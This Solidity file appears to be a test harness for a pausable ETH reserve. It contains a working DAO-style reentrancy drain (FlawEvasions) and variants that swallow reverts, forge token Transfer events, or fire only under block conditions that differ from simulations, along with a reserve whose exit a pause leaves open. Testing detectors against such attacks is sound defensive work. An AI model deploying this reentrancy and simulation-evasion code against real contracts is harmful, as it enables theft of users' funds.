// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.28;

import {EthReserve} from "../protocol/EthReserve.sol";

interface IReserve {
    function deposit() external payable;
    function withdraw(uint256 amount) external;
    function paused() external view returns (bool);
}

/// @notice A token of the attacker: it says that it left whatever account it is told, and answers any balance.
contract FlawToken {
    event Transfer(address indexed from, address indexed to, uint256 value);

    function claim(address from, uint256 value) external {
        emit Transfer(from, msg.sender, value);
    }

    function balanceOf(address) external pure returns (uint256) {
        return 1e24;
    }
}

/// @notice Keeps what `FlawEvasions` asks of its block, in another contract than itself.
contract FlawLatch {
    uint256 public armedAt;

    function arm() external {
        armedAt = block.number;
    }
}

/// @notice The attack on The DAO in forms that do not revert when paused, or that ask what a simulation gets wrong.
contract FlawEvasions {
    address public immutable owner;
    IReserve public immutable reserve;
    FlawToken public immutable token = new FlawToken();
    FlawLatch public immutable latch = new FlawLatch();
    uint256 public immutable stake;
    uint256 private depthLeft;
    uint256 private armedAt;

    error NotMet();

    constructor(IReserve reserve_) payable {
        owner = msg.sender;
        reserve = reserve_;
        stake = msg.value;
    }

    function plain(uint256 depth) public {
        uint256 most = address(reserve).balance / stake;
        depthLeft = depth < most ? depth : most;
        reserve.deposit{value: stake}();
        reserve.withdraw(stake);
        (bool paid,) = owner.call{value: address(this).balance - stake}("");
        if (!paid) revert NotMet();
    }

    /// @notice Goes through whatever becomes of the attack in it.
    function quiet(uint256 depth) public {
        try this.plain(depth) {} catch {}
    }

    /// @notice As quiet, and with a token that is said to leave the reserve, paused or not.
    function noisy(uint256 depth) external {
        quiet(depth);
        token.claim(address(reserve), 1e18);
    }

    function priced(uint256 depth) external {
        if (tx.gasprice == 0) revert NotMet();
        quiet(depth);
    }

    function feed(uint256 depth) external {
        if (block.basefee == 0) revert NotMet();
        quiet(depth);
    }

    function timed(uint256 depth, uint256 time) external {
        if (block.timestamp != time) revert NotMet();
        quiet(depth);
    }

    function mined(uint256 depth, address coinbase) external {
        if (block.coinbase != coinbase) revert NotMet();
        quiet(depth);
    }

    function numbered(uint256 depth, uint256 number) external {
        if (block.number != number) revert NotMet();
        quiet(depth);
    }

    function arm() external {
        armedAt = block.number;
    }

    function armed(uint256 depth) external {
        if (armedAt != block.number) revert NotMet();
        quiet(depth);
    }

    /// @notice Armed by anybody, by way of a contract that is not this one.
    function latched(uint256 depth) external {
        if (latch.armedAt() != block.number) revert NotMet();
        quiet(depth);
    }

    receive() external payable {
        if (msg.sender != address(reserve) || depthLeft == 0) return;
        depthLeft--;
        reserve.withdraw(stake);
    }
}

/// @notice The reserve as many are: whoever is in may leave while it is paused.
contract FlawOpenReserve is EthReserve {
    constructor(address guardian_) EthReserve(guardian_) {}

    function depart() external {
        uint256 own = balanceOf[msg.sender];
        balanceOf[msg.sender] = 0;
        (bool paid,) = msg.sender.call{value: own}("");
        if (!paid) revert PaymentFailed(msg.sender);
    }
}

/// @notice Has savings of its own in the reserve.
contract FlawSaver {
    function save(FlawOpenReserve reserve) external payable {
        reserve.deposit{value: msg.value}();
    }

    function depart(FlawOpenReserve reserve) external {
        reserve.depart();
    }

    receive() external payable {}
}

/// @notice The quiet attack, which takes the attacker's own savings along by a way that a pause leaves open.
contract FlawLeaving is FlawEvasions {
    FlawSaver public immutable saver = new FlawSaver();

    constructor(IReserve reserve_) payable FlawEvasions(reserve_) {}

    function save() external payable {
        saver.save{value: msg.value}(FlawOpenReserve(address(reserve)));
    }

    function leaving(uint256 depth) external {
        quiet(depth);
        saver.depart(FlawOpenReserve(address(reserve)));
    }
}
